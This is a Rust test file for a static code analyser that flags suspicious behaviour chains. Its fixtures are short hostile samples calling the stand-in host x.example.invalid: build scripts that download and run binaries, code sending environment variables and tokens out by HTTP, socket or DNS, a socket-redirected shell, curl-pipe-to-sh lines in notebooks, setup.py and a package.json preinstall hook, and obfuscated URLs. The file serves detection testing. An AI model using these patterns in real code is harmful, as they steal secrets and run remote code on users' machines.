//! Rust files, notebooks, pages, and command lines inside programs.

mod support;

use foretaste_model::facts::Language;
use support::{chains, facts};

#[test]
fn rust_build_scripts_are_followed() {
    let cases = [
        (
            "use std::process::Command;\nfn main() { let b = reqwest::blocking::get(\"http://x.example.invalid/a\").unwrap().bytes().unwrap();\n\
             std::fs::write(\"/tmp/a\", &b).unwrap();\nCommand::new(\"/tmp/a\").spawn().unwrap(); }",
            &["network.http > process.spawn [file]"][..],
        ),
        (
            "use std::{env, process::Command as C};\nfn main() { let p = env::temp_dir().join(\"x\"); let body = ureq::get(\"http://x.example.invalid\").call();\n\
             std::fs::write(&p, body); C::new(&p).spawn(); }",
            &[
                "network.http > process.spawn [file]",
                "network.http > process.spawn [order]",
            ],
        ),
        (
            "fn main() { let all: Vec<_> = std::env::vars().collect(); let s = serde_json::to_string(&all).unwrap();\n\
             let c = reqwest::blocking::Client::new(); c.post(\"http://x.example.invalid\").body(s).send(); }",
            &["environment.read-all > encode.object > network.http"],
        ),
        (
            "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://x.example.invalid/a | sh\").status(); }",
            &["std::process::Command::new: sh: network.http > process.shell"],
        ),
        (
            "use std::net::TcpStream; use std::io::Write;\nfn main() { let t = std::env::var(\"CRATES_TOKEN\").unwrap(); let mut s = TcpStream::connect(\"x.example.invalid:1\").unwrap();\n\
             s.write_all(t.as_bytes()); }",
            &["environment.read > network.socket"],
        ),
        (
            "fn init() { let r = ureq::get(\"http://x.example.invalid\").call().unwrap(); let mut b = Vec::new(); r.into_reader().read_to_end(&mut b).ok();\n\
             let p = std::env::temp_dir().join(\"svc\"); let mut f = std::fs::File::create(&p).unwrap(); f.write_all(&b).unwrap(); std::process::Command::new(p).spawn().ok(); }",
            &[
                "network.http > process.spawn [file]",
                "network.http > process.spawn [order]",
            ],
        ),
        (
            "pub async fn init() { let mut m = HashMap::new(); for (k, v) in std::env::vars() { m.insert(k, v); }\n\
             let _ = reqwest::Client::new().post(\"http://x.example.invalid\").json(&m).send().await; }",
            &["environment.read-all > network.http"],
        ),
        (
            "fn main() { let d = include_bytes!(\"font.bin\"); let o: Vec<u8> = d.iter().map(|b| b ^ 0x5a).collect(); let p = std::env::temp_dir().join(\"f\");\n\
             std::fs::write(&p, o).unwrap(); std::process::Command::new(\"sh\").arg(&p).spawn().ok(); }",
            &["decode.cipher > process.spawn [file]"],
        ),
        (
            "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); let out = std::env::var(\"OUT_DIR\").unwrap();\n\
             std::process::Command::new(\"cmake\").arg(\"..\").current_dir(out).status().unwrap(); cc::Build::new().file(\"a.c\").compile(\"a\"); }",
            &[],
        ),
    ];
    let mut wrong = Vec::new();
    for (text, expected) in cases {
        let found = chains(&facts("build.rs", text));
        if found != expected {
            wrong.push(format!("{text}\n   is {found:?}\n  not {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn rust_functions_imports_and_strings_are_seen() {
    let facts = facts(
        "src/lib.rs",
        "use a::{b::{self, C}, d as e};\n/* \"no\" /* nested */ */\nfn f<'a>(x: &'a str) -> char { g(r#\"https://x.example.invalid/\"#); '\"' }\n\
         pub fn g(_: &str) { unsafe { libloading::Library::new(\"x\") } }\n",
    );
    assert_eq!(facts.language, Language::Rust);
    let functions: Vec<_> = facts.functions.iter().map(|f| &*f.name).collect();
    assert_eq!(functions, ["<module>", "f", "g"]);
    assert_eq!(facts.functions[1].calls.len(), 1);
    let imports: Vec<_> = facts.imports.iter().map(|i| &*i.module).collect();
    assert_eq!(imports, ["a", "a.b", "a"]);
    assert_eq!(&*facts.literals[0].value, "https://x.example.invalid/");
    assert!(
        facts
            .uses
            .iter()
            .any(|u| u.capability.id() == "code.native" && u.function == 2)
    );
}

#[test]
fn notebooks_are_programs_with_places_of_their_own() {
    let text = "{\n \"cells\": [\n  {\"cell_type\": \"markdown\", \"source\": [\"eval(x)\"]},\n  {\"cell_type\": \"code\", \"source\": [\n   \"import os\\n\",\n   \"!curl http://x.example.invalid/a | sh\\n\",\n   \"os.system('id')\"\n  ]}\n ]\n}";
    let facts = facts("a.ipynb", text);
    assert_eq!(facts.language, Language::Notebook);
    let used = facts.uses.iter().find(|u| &*u.api == "os.system").unwrap();
    assert_eq!((used.span.line, used.span.column), (7, 5));
    assert_eq!(chains(&facts), ["shell: network.http > process.shell"]);
    assert_eq!(facts.layers[0].span.line, 6);
}

#[test]
fn pages_have_their_scripts_as_layers() {
    let facts = facts(
        "a.html",
        "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>",
    );
    assert_eq!(facts.language, Language::Html);
    assert_eq!(facts.layers.len(), 1);
    assert!(
        facts.layers[0]
            .facts
            .uses
            .iter()
            .any(|u| u.capability.id() == "code.eval")
    );
}

#[test]
fn command_lines_inside_programs_are_read_as_shells_read_them() {
    let python = facts(
        "setup.py",
        "import os\nos.system('curl -s http://x.example.invalid/a | sh')\n",
    );
    assert!(
        chains(&python).contains(&"os.system: network.http > process.shell".to_owned()),
        "{:?}",
        chains(&python)
    );
    let node = facts(
        "a.js",
        "require('child_process').exec('env | curl -d @- http://x.example.invalid/')",
    );
    assert!(
        chains(&node)
            .iter()
            .any(|c| c.ends_with(": environment.read-all > network.http")),
        "{:?}",
        chains(&node)
    );
    let list = facts(
        "a.py",
        "import subprocess\nsubprocess.run(['bash', '-c', 'curl http://x.example.invalid/a | sh'])\n",
    );
    assert!(
        chains(&list)
            .iter()
            .any(|c| c.ends_with("network.http > process.shell")),
        "{:?}",
        chains(&list)
    );
    let package = facts(
        "package.json",
        r#"{"scripts": {"preinstall": "curl http://x.example.invalid/a | sh", "test": "curl y | sh"}}"#,
    );
    assert_eq!(
        chains(&package),
        ["preinstall: network.http > process.shell"]
    );
}

/// The texts and chains that show what a program of Rust hides.
fn rust_tells(text: &str) -> (Vec<String>, Vec<String>) {
    let facts = facts("src/lib.rs", text);
    let literals = facts.literals.iter().map(|l| l.value.to_string()).collect();
    (literals, chains(&facts))
}

#[test]
fn rust_constants_are_worked_out() {
    let cases = [
        (
            "const T: &[&[u8]] = &[&[0x32, 0x2e, 0x2e, 0x2a, 0x60, 0x75, 0x75, 0x22, 0x74, 0x2e, 0x29, 0x2e]];\n\
             fn s(n: usize) -> String { T[n].iter().map(|b| (b ^ 0x5a) as char).collect() }\nfn f() { ureq::get(&s(0)).call(); }",
            "http://x.tst",
        ),
        (
            "fn dec(b: &[u8]) -> String { let mut out = String::new(); for (i, c) in b.iter().enumerate() { out.push((c ^ (i as u8).wrapping_add(1)) as char); } out }\n\
             fn f() { ureq::get(dec(b\"ivwt?)(p'~xx\").as_str()); }",
            "http://x.tst",
        ),
        (
            "const P: [u32; 3] = [0x68747470, 0x3a2f2f78, 0x2e747374];\nfn p() -> String { P.iter().flat_map(|w| w.to_be_bytes()).map(char::from).collect() }\nfn f() { ureq::get(&p()); }",
            "http://x.tst",
        ),
        (
            "fn f() { let u = [\"ht\", \"tp:/\", \"/x.\", \"tst\"].concat(); ureq::get(&u).call(); }",
            "http://x.tst",
        ),
        (
            "use base64::{Engine as _, engine::general_purpose::STANDARD as B};\nfn t(s: &str) -> String { String::from_utf8(B.decode(s).unwrap()).unwrap() }\nfn f() { minreq::get(t(\"aHR0cDovL3gudHN0\")).send(); }",
            "http://x.tst",
        ),
        (
            "fn f() { let u: String = \"tst.x//:ptth\".chars().rev().collect(); ureq::get(&u).call(); }",
            "http://x.tst",
        ),
    ];
    let mut wrong = Vec::new();
    for (text, hidden) in cases {
        let (literals, chains) = rust_tells(text);
        if !literals.iter().any(|l| l == hidden) {
            wrong.push(format!("{text}\n   {literals:?} {chains:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn rust_values_are_followed_through_functions_and_formats() {
    let cases: &[(&str, &[&str])] = &[
        (
            "use std::{io::Write, net::TcpStream};\nfn f() { let all: Vec<String> = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect(); let body = all.join(\"\\n\");\n\
             if let Ok(mut s) = TcpStream::connect((\"x.example.invalid\", 80)) { let _ = write!(s, \"POST / HTTP/1.1\\r\\n\\r\\n{body}\"); } }",
            &["environment.read-all > network.socket"],
        ),
        (
            "fn send(b: &str) { ureq::post(\"http://x.example.invalid\").send_string(b); }\nfn f() { let e = format!(\"{:?}\", std::env::vars().collect::<Vec<_>>()); send(&e); }",
            &["environment.read-all > network.http"],
        ),
        (
            "fn f() { send(&all()); }\nfn all() -> String { let v: Vec<_> = std::env::vars().collect(); serde_json::to_string(&v).unwrap() }\nfn send(b: &str) { let _ = attohttpc::post(\"http://x.example.invalid\").text(b).send(); }",
            &["environment.read-all > encode.object > network.http"],
        ),
        (
            "use std::net::ToSocketAddrs;\nfn f() { for n in [\"A_TOKEN\"].iter() { if let Ok(v) = std::env::var(n) { let h: String = v.bytes().map(|b| format!(\"{:02x}\", b)).collect(); let _ = format!(\"{h}.x.example.invalid:80\").to_socket_addrs(); } } }",
            &["environment.read > encode.text > network.dns"],
        ),
        (
            "use std::os::fd::{AsRawFd, FromRawFd}; use std::process::{Command, Stdio};\nfn f() { let s = std::net::TcpStream::connect(\"x.example.invalid:1\").unwrap(); let fd = s.as_raw_fd();\n\
             let io = || unsafe { Stdio::from_raw_fd(fd) }; let _ = Command::new(\"sh\").stdin(io()).stdout(io()).spawn(); }",
            &["network.socket > process.redirect"],
        ),
        (
            "use std::process::Command;\nfn main() { let p = std::env::temp_dir().join(\"x\"); let u = concat!(\"https://x.example\", \".invalid/a\");\n\
             let ok = Command::new(\"curl\").args([\"-fsSL\", \"-o\", p.to_str().unwrap(), u]).status().is_ok(); if ok { Command::new(&p).arg(\"--now\").spawn().ok(); } }",
            &["network.download > process.spawn [file]"],
        ),
        (
            "use std::process::Command;\nfn main() { let p = \"a.tgz\"; Command::new(\"curl\").args([\"-o\", p, \"https://x.example.invalid/a.tgz\"]).status().ok(); Command::new(\"tar\").args([\"xf\", p]).status().ok(); }",
            &[],
        ),
        (
            "fn f(name: &str) { let addr = format!(\"{name}:80\"); std::net::TcpStream::connect(addr).unwrap(); let home = std::env::var(\"HOME\"); }",
            &[],
        ),
    ];
    let mut wrong = Vec::new();
    for (text, expected) in cases {
        let found = rust_tells(text).1;
        if found != *expected {
            wrong.push(format!("{text}\n   is {found:?}\n  not {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
